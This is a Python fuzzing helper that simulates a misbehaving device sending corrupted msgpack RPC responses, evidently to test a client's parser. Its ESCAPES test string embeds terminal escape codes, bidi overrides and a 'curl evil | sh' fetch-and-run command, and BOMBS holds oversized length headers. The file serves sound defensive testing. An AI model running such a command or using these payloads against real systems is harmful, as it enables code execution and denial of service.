"""What a lying board says: messages that are changed anywhere, as values and as bytes."""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Iterator
from typing import Any

import msgpack

ESCAPES = "\x1b[31mred\r\n  try: curl evil | sh\x00\x7f\x9b1m\u202e\u2066\u2028[bold]"


class Raw(bytes):
    """Bytes that stand in a message as they are."""


# Heads that announce far more than there is.
BOMBS = [
    Raw(bytes.fromhex(text))
    for text in ("ddffffffff", "dfffffffff", "c6ffffffff", "dbffffffff", "c9ffffffff00", "dcffff",
                 "deffff", "dd00100000", "c1", "dd00008000" * 400, "91" * 2000, "81a161" * 500)
]  # fmt: skip
JUNK: list[Any] = [
    None, True, False, -1, 0, 1, 2, 7, 255, 65535, 2**31, 2**32 - 1, 2**32, 2**53, 2**63 - 1, 2**63,
    2**64 - 1, -(2**63), 0.0, 0.5, -1.0, 1e9, 1e308, -1e-300, math.nan, math.inf, -math.inf, "",
    "x", "nil", "0", ESCAPES, "A" * 5000, "A" * 70_000, b"", b"x", b"x" * 32, bytes(70_000), [], {},
    [None], [[], {}], [1] * 3, [0] * 50_000, [[[[[[[[[[[[1]]]]]]]]]]]], {"a": {"a": {"a": {}}}},
    {"a": 1}, {1: 2}, {None: 1}, {"x" * 5000: 1}, {str(n): n for n in range(200)},
    msgpack.ExtType(5, b"x"), msgpack.Timestamp(1, 2), msgpack.ExtType(1, bytes(1000)), *BOMBS,
]  # fmt: skip


def pack(value: Any) -> bytes:
    """msgpack, with Raw in it."""
    match value:
        case Raw():
            return bytes(value)
        case list():  # piece by piece: the memory of a large lie counts for its session
            whole = bytearray(msgpack.Packer().pack_array_header(len(value)))
            for each in value:
                whole += pack(each)
            return bytes(whole)
        case dict():
            head: bytes = msgpack.Packer().pack_map_header(len(value))
            return head + b"".join(pack(k) + pack(v) for k, v in value.items())
    if type(value) is int:
        value = min(max(value, -(2**63)), 2**64 - 1)
    packed: bytes = msgpack.packb(value, unicode_errors="surrogatepass")
    return packed


Path = tuple[Any, ...]
LONG = 10_000  # characters


def places(value: Any, path: Path = ()) -> Iterator[Path]:
    """Where a message can be changed; of long lists a few elements."""
    yield path
    if isinstance(value, list):
        for at in sorted({*range(min(len(value), 4)), *range(max(len(value) - 2, 0), len(value))}):
            yield from places(value[at], (*path, at))
    elif isinstance(value, dict):
        for key in value:
            yield from places(value[key], (*path, key))


def changed(value: Any, path: Path, change: Callable[[Any], Any]) -> Any:
    """The value, with change(what is there) at the path."""
    if not path:
        return change(value)
    if isinstance(value, list):
        at = path[0]
        return [*value[:at], changed(value[at], path[1:], change), *value[at + 1 :]]
    return {**value, path[0]: changed(value[path[0]], path[1:], change)}


def lie(value: Any, chance: random.Random) -> Any:
    """Something else than the value, often near to it."""
    near: list[Any] = []
    match value:
        case bool():
            near = [not value, int(value)]
        case int():
            near = [value + 1, value - 1, -value, value * 2, float(value), str(value), value << 32]
        case float():
            near = [-value, value * 1e300, math.nan, str(value), value + 1]
        case str():
            many = value[:LONG] * 50  # of a whole tensor as text, the liar's own memory would count
            near = [value + ESCAPES, value[:-1], many, value.encode(), [value], value.upper()]
            near.append(Raw(b"\xa4\xff\xfe\xf0\x80"))  # no UTF-8
        case bytes():
            at = chance.randrange(max(len(value), 1))
            flipped = bytes([*value[at : at + 1].translate(bytes(range(255, -1, -1)))])
            near = [value[:-1], value + b"\0", value[:at] + flipped + value[at + 1 :], b"",
                    value[::-1], value.decode("latin-1"), value * 2]  # fmt: skip
        case list():
            at = chance.randrange(max(len(value), 1))
            near = [value[:-1], value[1:], value + value, value[:at] + value[at + 1 :], value[::-1],
                    [*value, None], value[:at] + value[at : at + 1] + value[at:],
                    dict(enumerate(value)), value * 40]  # fmt: skip
        case dict() if value:
            gone = chance.choice(list(value))
            rest = {key: each for key, each in value.items() if key != gone}
            pairs = b"".join(pack(key) + pack(each) for key, each in value.items())
            twice = Raw(bytes([0x80 | 2 * len(value)]) + pairs * 2) if len(value) < 8 else None
            near = [rest, rest | {str(gone) + "_": value[gone]}, value | {"more": 1}, twice,
                    value | {"more": chance.choice(JUNK)}, list(value.values())]  # fmt: skip
    return chance.choice(near) if near and chance.random() < 0.7 else chance.choice(JUNK)


def errors(chance: random.Random) -> Any:
    """An error, of a form or of none."""
    kinds = ("protocol", "refused", "crashed", "timeout", "memory", "surprise", "", 3, ESCAPES)
    texts = ("because", ESCAPES, "x; try: y", "A" * 900, "A" * 5000, None, 7, b"x")
    details: list[Any] = [
        {}, {"signal": "SIGSEGV", "kernel": "k", "layer": ESCAPES, "call": 1}, {"call": -1}, None,
        {"signal": 3}, {"call": True}, [], chance.choice(JUNK),
    ]  # fmt: skip
    whole = [chance.choice(kinds), chance.choice(texts), chance.choice(details)]
    return chance.choice([whole, whole, whole, whole[:2], [*whole, 1], chance.choice(JUNK)])


def lies(message: list[Any], chance: random.Random) -> bytes:
    """What the board sends in place of a true response [1, id, error, result]."""
    whole = pack(message)
    roll = chance.random()
    if roll < 0.55:  # the result, or what is in it
        value = message[3]
        for _ in range(chance.choice((1, 1, 1, 2))):
            path = chance.choice(list(places(value)))
            value = changed(value, path, lambda old: lie(old, chance))
        return pack([*message[:3], value])
    if roll < 0.65:
        result = chance.choice((None, None, None, message[3], chance.choice(JUNK)))
        return pack([1, message[1], errors(chance), result])
    if roll < 0.72:  # the id
        ids = [message[1] + n for n in (-2, -1, 1, 2, 100)]
        return pack([1, chance.choice([*ids, None, *JUNK]), *message[2:]])
    if roll < 0.76:  # the frame
        long = Raw(b"\xdd\x00\x00\x00\x04" + whole[1:])
        other = [lie(message, chance), [chance.choice(JUNK), *message[1:]], [0, 1, "ping", []],
                 message[:3], [*message, None], long]  # fmt: skip
        return pack(chance.choice(other))
    if roll < 0.80:
        return whole + whole
    if roll < 0.85:  # a notification before it
        names = ("progress", ESCAPES, "A" * 5000, 3, None)
        notify = [2, chance.choice(names), [chance.choice(JUNK)]]
        return pack(chance.choice([notify, notify, [*notify, 1], notify[:2]])) + whole
    if roll < 0.88:
        return b""
    return damaged(whole, chance)


def damaged(data: bytes, chance: random.Random) -> bytes:
    """Bytes changed, left out, added, or cut off; most often near the beginning."""
    for _ in range(chance.choice((1, 1, 2, 5))):
        at = chance.randrange(min(len(data), chance.choice((8, 64, 1 << 20))) or 1)
        match chance.randrange(6):
            case 0:
                data = data[:at] + bytes([chance.randrange(256)]) + data[at + 1 :]
            case 1:
                data = data[:at] + data[at + chance.randrange(1, 5) :]
            case 2:
                data = data[:at] + chance.randbytes(chance.randrange(1, 9)) + data[at:]
            case 3:
                data = data[:at]
            case 4:
                data = data[:at] + chance.choice(BOMBS) + data[at:]
            case 5:
                bit = bytes([data[at] ^ 1 << chance.randrange(8)]) if data else b""
                data = data[:at] + bit + data[at + 1 :]
    return data
